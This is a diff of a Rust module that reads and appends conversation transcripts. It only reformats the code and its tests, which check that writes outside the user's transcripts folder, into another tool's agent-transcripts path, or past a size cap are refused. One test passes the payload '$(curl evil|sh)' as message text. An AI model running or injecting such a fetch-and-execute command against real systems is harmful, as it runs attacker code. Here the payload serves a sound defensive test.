@@ -176,8 +176,11 @@ pub async fn append(
 /// with messages in it, in this user's transcripts folder.
 pub async fn read(home: &Path, folder: &str, conversation: &str) -> Option<String> {
     let file = file_name(conversation)?;
-    let (home, folder, conversation) =
-        (home.to_path_buf(), folder.to_string(), conversation.to_string());
+    let (home, folder, conversation) = (
+        home.to_path_buf(),
+        folder.to_string(),
+        conversation.to_string(),
+    );
     let text = tokio::task::spawn_blocking(move || -> std::io::Result<String> {
         let Some(dir) = ours(&home, &folder) else {
             return Ok(String::new());
@@ -340,20 +343,30 @@ mod tests {
         let planted = elsewhere.path().join("c1/c1.jsonl");
         std::fs::write(&planted, turn_lines("planted", &[])).expect("write");
         let folder = elsewhere.path().to_str().expect("utf-8");
-        assert!(!append(home.path(), folder, "c1", turn_lines("$(curl evil|sh)", &[]))
-            .await
-            .expect("io"));
+        assert!(!append(
+            home.path(),
+            folder,
+            "c1",
+            turn_lines("$(curl evil|sh)", &[])
+        )
+        .await
+        .expect("io"));
         assert_eq!(
             std::fs::read_to_string(&planted).expect("read"),
             turn_lines("planted", &[])
         );
         assert_eq!(read(home.path(), folder, "c1").await, None);
-        let theirs = elsewhere.path().join(".cursor/projects/ws/agent-transcripts");
+        let theirs = elsewhere
+            .path()
+            .join(".cursor/projects/ws/agent-transcripts");
         let theirs = theirs.to_str().expect("utf-8");
         assert!(!append(home.path(), theirs, "c2", turn_lines("hi", &[]))
             .await
             .expect("io"));
-        assert!(!elsewhere.path().join(".cursor").exists(), "nothing created");
+        assert!(
+            !elsewhere.path().join(".cursor").exists(),
+            "nothing created"
+        );
     }
 
     /// Attack: `<id>.jsonl` linked to a victim file, and a linked `<id>` folder.
@@ -388,9 +401,11 @@ mod tests {
         let file = root.join("c2/c2.jsonl");
         std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
         std::fs::write(&file, vec![b' '; MAX_FILE_BYTES as usize - 10]).expect("write");
-        assert!(!append(home.path(), &folder, "c2", turn_lines("hello there", &[]))
-            .await
-            .expect("io"));
+        assert!(
+            !append(home.path(), &folder, "c2", turn_lines("hello there", &[]))
+                .await
+                .expect("io")
+        );
         assert_eq!(
             std::fs::metadata(&file).expect("meta").len(),
             MAX_FILE_BYTES - 10
